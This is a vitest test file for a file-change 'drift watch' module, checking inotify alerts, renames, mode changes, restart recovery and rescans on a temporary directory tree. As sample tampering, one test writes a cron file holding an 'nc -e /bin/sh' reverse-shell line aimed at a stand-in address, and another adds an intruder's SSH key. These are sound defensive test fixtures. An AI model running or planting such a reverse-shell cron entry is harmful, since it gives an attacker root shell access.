import { chmodSync, mkdirSync, readdirSync, renameSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { driftModule } from "../../agent/modules/drift/index.js";
import { DriftWatches } from "../../agent/modules/drift/watch.js";
import type { ModuleHost } from "../../agent/modules/registry.js";
import { silentLogger } from "../../common/mod.js";
import { type Alert, type DriftChange, DriftParams, type DriftResult } from "../../proto/api.js";
import { tempDir } from "../helpers/fleet.js";
import { standaloneHost } from "../helpers/module-host.js";

// Persistent watches on a tree made here, with real inotify: each kind of
// change arrives as an alert within 2 s carrying the same description as
// `drift check`; a watch comes back after a restart and reports what changed
// while it was down; the rescan finds what notifications cannot see.

let root: string;
let state: string;
let alerts: Alert[];
let watches: DriftWatches;

function host(): ModuleHost {
  return standaloneHost(state, (a) => alerts.push(a));
}

async function run(p: Partial<DriftParams>, service = watches): Promise<DriftResult> {
  const params = DriftParams.fromPartial(p);
  driftModule.check(params);
  const outcome = await driftModule.run(params, {
    signal: new AbortController().signal,
    log: silentLogger,
    stateDir: state,
    actionId: "01m8aaaaaaaaaaaaaaaaaaaaaa",
    service,
  });
  return outcome.result;
}

/** Waits for alerts whose changes, together, cover `paths`; returns those changes and how long it took. */
async function changesFor(paths: string[], withinMs = 2000): Promise<{ changes: DriftChange[]; ms: number }> {
  const started = performance.now();
  for (;;) {
    const changes = alerts.flatMap((a) => a.changes);
    if (paths.every((p) => changes.some((c) => c.path === p))) {
      return { changes, ms: performance.now() - started };
    }
    if (performance.now() - started > withinMs) {
      throw new Error(
        `no alert for ${paths.join(", ")} within ${withinMs} ms; got ${JSON.stringify(changes.map((c) => c.path))}`,
      );
    }
    await new Promise((r) => setTimeout(r, 20));
  }
}

const summary = (changes: DriftChange[]) =>
  changes.map((c) => [c.path.slice(root.length), c.kind, c.what]).sort();

beforeEach(async () => {
  root = tempDir("dragnet-watch-");
  state = tempDir("dragnet-watch-state-");
  alerts = [];
  mkdirSync(join(root, "ssh"));
  mkdirSync(join(root, "cron.d"));
  writeFileSync(join(root, "ssh/sshd_config"), "Port 22\nPermitRootLogin no\n");
  writeFileSync(join(root, "cron.d/backup"), "0 3 * * * root backup\n");
  writeFileSync(join(root, "noise.log"), "x\n");
  watches = new DriftWatches(host());
  await watches.start();
});

afterEach(async () => {
  await watches.stop();
});

describe("drift watches", () => {
  it("alerts within 2 s of an edit, with the diff drift check would give", async () => {
    const started = await run({
      mode: "watch_start",
      name: "etc",
      paths: [root],
      excludes: ["\\.log$"],
      rescanSeconds: 300,
    });
    expect(started.watches.map((w) => [w.name, w.entries])).toEqual([["etc", 5]]);
    expect(started.watches[0]!.directoriesNotified).toBe(3);
    writeFileSync(join(root, "ssh/sshd_config"), "Port 22\nPermitRootLogin yes\n");
    const { changes, ms } = await changesFor([join(root, "ssh/sshd_config")]);
    expect(ms).toBeLessThan(2000);
    expect(summary(changes)).toEqual([["/ssh/sshd_config", "changed", ["content"]]]);
    expect(changes[0]!.diff).toContain("-PermitRootLogin no\n+PermitRootLogin yes");
    // No package owns a file under a temporary directory.
    expect([changes[0]!.origin, changes[0]!.package]).toEqual(["unowned", ""]);
    const alert = alerts[0]!;
    expect([
      alert.agentId,
      alert.hostname,
      alert.source,
      alert.watch,
      alert.detectedBy,
      alert.actionId,
    ]).toEqual(["agent-1", "host-1", "drift", "etc", "notify", "01m8aaaaaaaaaaaaaaaaaaaaaa"]);
    // An excluded file changes without an alert.
    alerts = [];
    writeFileSync(join(root, "noise.log"), "more\n");
    writeFileSync(join(root, "cron.d/backup"), "0 4 * * * root backup\n");
    const next = await changesFor([join(root, "cron.d/backup")]);
    expect(summary(next.changes)).toEqual([["/cron.d/backup", "changed", ["content"]]]);
  });

  it("reports a rename, a file in a new subdirectory, a mode change and a removal", async () => {
    await run({ mode: "watch_start", name: "w", paths: [root], rescanSeconds: 300 });
    renameSync(join(root, "cron.d/backup"), join(root, "cron.d/backup.disabled"));
    mkdirSync(join(root, "cron.d/new/deeper"), { recursive: true });
    writeFileSync(join(root, "cron.d/new/deeper/evil"), "* * * * * root nc -e /bin/sh 198.18.0.9 4444\n");
    chmodSync(join(root, "ssh/sshd_config"), 0o666);
    rmSync(join(root, "noise.log"));
    const { changes } = await changesFor([
      join(root, "cron.d/backup.disabled"),
      join(root, "cron.d/new/deeper/evil"),
      join(root, "ssh/sshd_config"),
      join(root, "noise.log"),
    ]);
    expect(summary(changes)).toEqual([
      ["/cron.d/backup", "removed", []],
      ["/cron.d/backup.disabled", "added", []],
      ["/cron.d/new", "added", []],
      ["/cron.d/new/deeper", "added", []],
      ["/cron.d/new/deeper/evil", "added", []],
      ["/noise.log", "removed", []],
      ["/ssh/sshd_config", "changed", ["mode"]],
    ]);
    // The new directories are watched now: a later file in them is seen too.
    alerts = [];
    writeFileSync(join(root, "cron.d/new/deeper/second"), "x\n");
    const later = await changesFor([join(root, "cron.d/new/deeper/second")]);
    expect(summary(later.changes)).toEqual([["/cron.d/new/deeper/second", "added", []]]);
  });

  it("a directory removed and made again is watched again", async () => {
    await run({ mode: "watch_start", name: "w", paths: [root], rescanSeconds: 300 });
    rmSync(join(root, "cron.d"), { recursive: true });
    const gone = await changesFor([join(root, "cron.d/backup")]);
    expect(summary(gone.changes)).toEqual([
      ["/cron.d", "removed", []],
      ["/cron.d/backup", "removed", []],
    ]);
    alerts = [];
    mkdirSync(join(root, "cron.d"));
    const back = await changesFor([join(root, "cron.d")]);
    expect(summary(back.changes)).toEqual([["/cron.d", "added", []]]);
    alerts = [];
    writeFileSync(join(root, "cron.d/again"), "x\n");
    const inside = await changesFor([join(root, "cron.d/again")]);
    expect(summary(inside.changes)).toEqual([["/cron.d/again", "added", []]]);
  });

  it("survives a restart: resumes watching and reports what changed while it was down", async () => {
    await run({ mode: "watch_start", name: "w", paths: [join(root, "ssh")], rescanSeconds: 300 });
    await watches.stop();
    writeFileSync(join(root, "ssh/sshd_config"), "Port 2222\nPermitRootLogin no\n");
    writeFileSync(join(root, "ssh/authorized_keys"), "ssh-ed25519 AAAA eve\n");
    watches = new DriftWatches(host());
    await watches.start();
    const missed = await changesFor([join(root, "ssh/sshd_config"), join(root, "ssh/authorized_keys")]);
    expect(summary(missed.changes)).toEqual([
      ["/ssh/authorized_keys", "added", []],
      ["/ssh/sshd_config", "changed", ["content"]],
    ]);
    expect(alerts.map((a) => a.detectedBy)).toEqual(["restart"]);
    alerts = [];
    writeFileSync(join(root, "ssh/sshd_config"), "Port 22\n");
    const live = await changesFor([join(root, "ssh/sshd_config")]);
    expect(alerts[0]!.detectedBy).toBe("notify");
    expect(live.changes[0]!.diff).toContain("-Port 2222\n");
    const listed = await run({ mode: "watch_list" });
    expect(listed.watches.map((w) => [w.name, w.alertsSent])).toEqual([["w", 2]]);
  });

  it("the rescan finds changes where no notification can be had (past the inotify budget)", async () => {
    await watches.stop();
    watches = new DriftWatches(host(), { maxNotifiedDirs: 0 });
    await watches.start();
    const started = await run({ mode: "watch_start", name: "w", paths: [root], rescanSeconds: 5 });
    expect([started.watches[0]!.directoriesNotified, started.watches[0]!.directoriesUnnotified]).toEqual([
      0, 3,
    ]);
    const t0 = performance.now();
    writeFileSync(join(root, "cron.d/backup"), "changed\n");
    const { changes } = await changesFor([join(root, "cron.d/backup")], 8000);
    expect(summary(changes)).toEqual([["/cron.d/backup", "changed", ["content"]]]);
    expect(alerts[0]!.detectedBy).toBe("rescan");
    // Found by the 5 s timer, not at once.
    expect(performance.now() - t0).toBeGreaterThan(2000);
  });

  it("stop removes the watch and its state; no alert after", async () => {
    await run({ mode: "watch_start", name: "w", paths: [root] });
    expect(readdirSync(join(state, "drift-watches"))).toEqual(["w.json"]);
    const stopped = await run({ mode: "watch_stop", name: "w" });
    expect(stopped.watches.map((w) => w.name)).toEqual(["w"]);
    expect(readdirSync(join(state, "drift-watches"))).toEqual([]);
    writeFileSync(join(root, "ssh/sshd_config"), "changed\n");
    await new Promise((r) => setTimeout(r, 600));
    expect(alerts).toEqual([]);
    await expect(run({ mode: "watch_stop", name: "w" })).rejects.toThrow(/no watch named "w"/);
    expect(() =>
      driftModule.check(DriftParams.fromPartial({ mode: "watch_start", paths: [root], rescanSeconds: 1 })),
    ).toThrow(/rescan seconds must be between 5/);
    expect(() => driftModule.check(DriftParams.fromPartial({ mode: "watch_start" }))).toThrow(
      /a watch needs at least one path/,
    );
  });
});
